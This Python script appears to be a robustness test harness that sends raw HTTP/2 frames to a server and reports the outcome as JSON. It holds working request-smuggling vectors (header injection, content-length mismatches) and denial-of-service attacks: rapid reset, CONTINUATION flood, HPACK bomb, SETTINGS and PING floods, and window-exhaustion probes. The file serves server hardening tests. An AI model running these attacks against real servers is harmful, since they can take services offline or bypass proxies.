#!/usr/bin/env python3
"""Raw HTTP/2 probes written with a frame-level library that is not ours
(Python's h2, hyperframe and hpack from PyPI): the h2-to-h1 smuggling vectors
and the known attacks. Usage:

    h2_probe.py HOST PORT SCENARIO [PATH]

Prints one JSON object: what the server did, as
  {"outcome": "status", "status": N, "body_len": N}   a response ended the stream
  {"outcome": "rst", "code": N}                       RST_STREAM on the probe's stream
  {"outcome": "goaway", "code": N}                    GOAWAY (connection error)
  {"outcome": "closed"} / {"outcome": "timeout"}      the connection ended / nothing came
plus scenario-specific fields. Every scenario is bounded to a few seconds.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    SettingsFrame,
)

READ_WINDOW = 6.0


def connect(host, port, settings=None):
    s = socket.create_connection((host, port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    cfg = h2.config.H2Configuration(
        client_side=True,
        header_encoding=None,
        validate_outbound_headers=False,
        normalize_outbound_headers=False,
        validate_inbound_headers=False,
        split_outbound_cookies=False,
    )
    c = h2.connection.H2Connection(config=cfg)
    c.initiate_connection()
    if settings:
        c.update_settings(settings)
    s.sendall(c.data_to_send())
    return s, c


def base(host, port, path, method=b"GET"):
    return [
        (b":method", method),
        (b":scheme", b"http"),
        (b":authority", f"{host}:{port}".encode()),
        (b":path", path.encode()),
    ]


def outcome(s, c, stream_id, window=READ_WINDOW):
    """Reads until the probe's stream or the connection ends."""
    end = time.time() + window
    status = None
    body = 0
    while time.time() < end:
        s.settimeout(max(0.05, end - time.time()))
        try:
            data = s.recv(65536)
        except socket.timeout:
            break
        except (ConnectionResetError, BrokenPipeError):
            return {"outcome": "closed", "status": status}
        if not data:
            return {"outcome": "closed", "status": status}
        try:
            events = c.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            return {"outcome": "client_protocol_error", "error": str(e)}
        for ev in events:
            if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == stream_id:
                status = int(dict(ev.headers)[b":status"])
            elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == stream_id:
                body += len(ev.data)
                c.acknowledge_received_data(ev.flow_controlled_length, stream_id)
            elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == stream_id:
                return {"outcome": "status", "status": status, "body_len": body}
            elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == stream_id:
                return {"outcome": "rst", "code": int(ev.error_code), "status": status}
            elif isinstance(ev, h2.events.ConnectionTerminated):
                return {"outcome": "goaway", "code": int(ev.error_code), "status": status}
        try:
            s.sendall(c.data_to_send())
        except OSError:
            return {"outcome": "closed", "status": status}
    return {"outcome": "timeout", "status": status}


def raw_outcome(s, stream_id, window=READ_WINDOW):
    """Like `outcome`, parsing the server's frames itself: for the probes
    that wrote frames past the client state machine."""
    from hyperframe.frame import Frame, GoAwayFrame, RstStreamFrame, DataFrame

    dec = hpack.Decoder()
    dec.max_allowed_table_size = 65536
    buf = b""
    status = None
    body = 0
    end = time.time() + window
    while time.time() < end:
        s.settimeout(max(0.05, end - time.time()))
        try:
            data = s.recv(65536)
        except socket.timeout:
            break
        except OSError:
            return {"outcome": "closed", "status": status}
        if not data:
            return {"outcome": "closed", "status": status}
        buf += data
        while len(buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            f.parse_body(memoryview(buf[9 : 9 + length]))
            buf = buf[9 + length :]
            if isinstance(f, GoAwayFrame):
                return {"outcome": "goaway", "code": f.error_code, "status": status}
            if f.stream_id != stream_id:
                continue
            if isinstance(f, RstStreamFrame):
                return {"outcome": "rst", "code": f.error_code, "status": status}
            if isinstance(f, HeadersFrame):
                fields = dict(dec.decode(f.data, raw=True))
                status = int(fields[b":status"])
            if isinstance(f, DataFrame):
                body += len(f.data)
            if "END_STREAM" in f.flags:
                return {"outcome": "status", "status": status, "body_len": body}
    return {"outcome": "timeout", "status": status}


def send_all(s, data):
    try:
        s.sendall(data)
        return True
    except OSError:
        return False


# --- smuggling rows: one request each, its headers or body framing wrong ---


def malformed(host, port, path, extra=(), replace=None, body=None, end=True, method=b"GET"):
    s, c = connect(host, port)
    headers = base(host, port, path, method)
    if replace is not None:
        headers = replace(headers)
    headers = headers + list(extra)
    c.send_headers(1, headers, end_stream=body is None and end)
    if body is not None:
        c.send_data(1, body, end_stream=True)
    send_all(s, c.data_to_send())
    return outcome(s, c, 1)


def cl_more(h, p, path):
    return malformed(h, p, path, [(b"content-length", b"5")], body=b"0123456789", method=b"POST")


def cl_less(h, p, path):
    return malformed(h, p, path, [(b"content-length", b"10")], body=b"01234", method=b"POST")


def cl_zero_with_data(h, p, path):
    return malformed(h, p, path, [(b"content-length", b"0")], body=b"0123", method=b"POST")


SMUGGLING = {
    "cl_more": cl_more,
    "cl_less": cl_less,
    "cl_zero_with_data": cl_zero_with_data,
    "cr_in_value": lambda h, p, path: malformed(h, p, path, [(b"x-a", b"a\rb")]),
    "lf_in_value": lambda h, p, path: malformed(h, p, path, [(b"x-a", b"a\nx-injected: 1")]),
    "nul_in_value": lambda h, p, path: malformed(h, p, path, [(b"x-a", b"a\x00b")]),
    "uppercase_name": lambda h, p, path: malformed(h, p, path, [(b"X-Upper", b"1")]),
    "colon_in_name": lambda h, p, path: malformed(h, p, path, [(b"x:y", b"1")]),
    "transfer_encoding": lambda h, p, path: malformed(
        h, p, path, [(b"transfer-encoding", b"chunked")], body=b"0\r\n\r\n", method=b"POST"
    ),
    "connection": lambda h, p, path: malformed(h, p, path, [(b"connection", b"keep-alive")]),
    "te_gzip": lambda h, p, path: malformed(h, p, path, [(b"te", b"gzip")]),
    "pseudo_after_regular": lambda h, p, path: malformed(
        h, p, path, replace=lambda hs: [hs[0], hs[1], (b"x-a", b"1"), hs[2], hs[3]]
    ),
    "duplicate_path": lambda h, p, path: malformed(h, p, path, [], replace=lambda hs: hs + [(b":path", b"/other")]),
    "missing_method": lambda h, p, path: malformed(h, p, path, replace=lambda hs: hs[1:]),
    "host_mismatch": lambda h, p, path: malformed(h, p, path, [(b"host", b"evil.example")]),
    "space_around_value": lambda h, p, path: malformed(h, p, path, [(b"x-a", b" padded ")]),
    "body_too_large": lambda h, p, path: malformed(
        h, p, path, [(b"content-length", b"99999999999999")], end=False, method=b"POST"
    ),
}


# --- attacks ---


def rapid_reset(host, port, path):
    s, c = connect(host, port)
    sent = 0
    stream_id = 1
    ok = True
    for batch in range(40):
        for _ in range(50):
            c.send_headers(stream_id, base(host, port, path), end_stream=True)
            c.reset_stream(stream_id, error_code=8)
            stream_id += 2
            sent += 1
        if not send_all(s, c.data_to_send()):
            ok = False
            break
    r = outcome(s, c, -1)
    r["sent"] = sent
    r["all_sent"] = ok
    return r


def raw_headers(host, port, path, encoder, end_headers):
    block = encoder.encode(base(host, port, path))
    f = HeadersFrame(1)
    f.data = block
    f.flags.add("END_STREAM")
    if end_headers:
        f.flags.add("END_HEADERS")
    return f


def continuation_flood(host, port, path):
    s, c = connect(host, port)
    enc = hpack.Encoder()
    frames = [raw_headers(host, port, path, enc, False).serialize()]
    sent = 0
    for i in range(20000):
        f = ContinuationFrame(1)
        # A literal field without indexing each time: valid HPACK, never ends.
        f.data = enc.encode([(b"x-flood", b"a" * 100)], huffman=False)
        frames.append(f.serialize())
        if len(frames) >= 200:
            if not send_all(s, b"".join(frames)):
                break
            sent += len(frames)
            frames = []
    r = raw_outcome(s, 1)
    r["sent"] = sent
    return r


def hpack_bomb(host, port, path, refs):
    s, c = connect(host, port)
    enc = hpack.Encoder()
    block = enc.encode(base(host, port, path))
    # One 4000-byte field into the dynamic table (literal with incremental
    # indexing, new name), then `refs` one-byte references to it (index 62).
    name = b"x-bomb"
    value = b"b" * 4000
    lit = bytes([0x40, len(name)]) + name
    lit += bytes([0x7F]) + encode_int(len(value) - 127) + value
    block += lit + bytes([0x80 | 62]) * refs
    f = HeadersFrame(1)
    f.data = block
    f.flags.add("END_STREAM")
    f.flags.add("END_HEADERS")
    frames = f.serialize()
    send_all(s, frames)
    r = raw_outcome(s, 1)
    r["block_bytes"] = len(block)
    r["decoded_bytes"] = (refs + 1) * (len(name) + len(value) + 32)
    return r


def encode_int(n):
    """HPACK integer continuation bytes (the prefix was all ones)."""
    out = bytearray()
    while n >= 128:
        out.append((n % 128) + 128)
        n //= 128
    out.append(n)
    return bytes(out)


def flood_without_reading(host, port, frame_bytes, seconds):
    """Sends `frame_bytes` over and over for `seconds` without ever reading,
    then reads what comes until the server closes or READ_WINDOW passes."""
    s, c = connect(host, port)
    s.setblocking(False)
    chunk = frame_bytes * 512
    sent = 0
    blocked = False
    end = time.time() + seconds
    while time.time() < end:
        try:
            n = s.send(chunk)
            sent += n
        except BlockingIOError:
            blocked = True
            time.sleep(0.01)
        except OSError:
            return {"outcome": "closed", "sent_bytes": sent, "blocked": blocked}
    s.setblocking(True)
    # Now read: the server's answers, then the end of the connection.
    got = 0
    deadline = time.time() + float(sys.argv[5]) if len(sys.argv) > 5 else time.time() + READ_WINDOW
    while time.time() < deadline:
        s.settimeout(max(0.05, deadline - time.time()))
        try:
            data = s.recv(1 << 20)
        except socket.timeout:
            return {"outcome": "timeout", "sent_bytes": sent, "blocked": blocked, "read_bytes": got}
        except OSError:
            return {"outcome": "closed", "sent_bytes": sent, "blocked": blocked, "read_bytes": got}
        if not data:
            return {"outcome": "closed", "sent_bytes": sent, "blocked": blocked, "read_bytes": got}
        got += len(data)
    return {"outcome": "timeout", "sent_bytes": sent, "blocked": blocked, "read_bytes": got}


def settings_flood(host, port, path):
    f = SettingsFrame(0)
    f.settings = {SettingsFrame.MAX_CONCURRENT_STREAMS: 100}
    return flood_without_reading(host, port, f.serialize(), 2.0)


def ping_flood(host, port, path):
    f = PingFrame(0)
    f.opaque_data = b"12345678"
    return flood_without_reading(host, port, f.serialize(), 2.0)


def zero_window(host, port, path):
    s, c = connect(host, port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    c.send_headers(1, base(host, port, path), end_stream=True)
    send_all(s, c.data_to_send())
    # Never open the window: read with no acknowledgement of data.
    return outcome(s, c, 1, window=float(sys.argv[5]) if len(sys.argv) > 5 else READ_WINDOW)


def open_windows_never_read(host, port, path):
    """Opens every window as wide as HTTP/2 allows, asks for `path` on 100
    streams, then never reads for a few seconds: what the server queues for
    such a peer is its own bound, not the windows'."""
    s, c = connect(host, port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 2**31 - 1})
    c.increment_flow_control_window(2**31 - 1 - 65535)
    for i in range(100):
        c.send_headers(1 + 2 * i, base(host, port, path), end_stream=True)
    send_all(s, c.data_to_send())
    time.sleep(float(sys.argv[5]) if len(sys.argv) > 5 else 3.0)
    s.close()
    return {"outcome": "closed"}


def get(host, port, path):
    s, c = connect(host, port)
    c.send_headers(1, base(host, port, path), end_stream=True)
    send_all(s, c.data_to_send())
    return outcome(s, c, 1)


def idle(host, port, path):
    """One request, then nothing: what the server does with an idle connection."""
    s, c = connect(host, port)
    c.send_headers(1, base(host, port, path), end_stream=True)
    send_all(s, c.data_to_send())
    first = outcome(s, c, 1)
    started = time.time()
    # Frames parsed here: Python's h2 refuses the PING that follows a GOAWAY.
    r = raw_outcome(s, -1, window=10.0)
    r["first"] = first
    r["idle_seconds"] = round(time.time() - started, 2)
    return r


def post_without_length(host, port, path):
    """A body in two DATA frames and no content-length."""
    s, c = connect(host, port)
    c.send_headers(1, base(host, port, path, b"POST"), end_stream=False)
    c.send_data(1, b"hello, ", end_stream=False)
    c.send_data(1, b"world", end_stream=True)
    send_all(s, c.data_to_send())
    return outcome(s, c, 1)


ATTACKS = {
    "get": get,
    "post_without_length": post_without_length,
    "idle": idle,
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": lambda h, p, path: hpack_bomb(h, p, path, 4000),
    "hpack_oversize": lambda h, p, path: hpack_bomb(h, p, path, 10),
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "zero_window": zero_window,
    "open_windows_never_read": open_windows_never_read,
}


def main():
    host, port, scenario = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    path = sys.argv[4] if len(sys.argv) > 4 else "/"
    fn = SMUGGLING.get(scenario) or ATTACKS.get(scenario)
    if fn is None:
        print(json.dumps({"error": f"unknown scenario {scenario}"}))
        sys.exit(2)
    print(json.dumps(fn(host, port, path)))


if __name__ == "__main__":
    main()
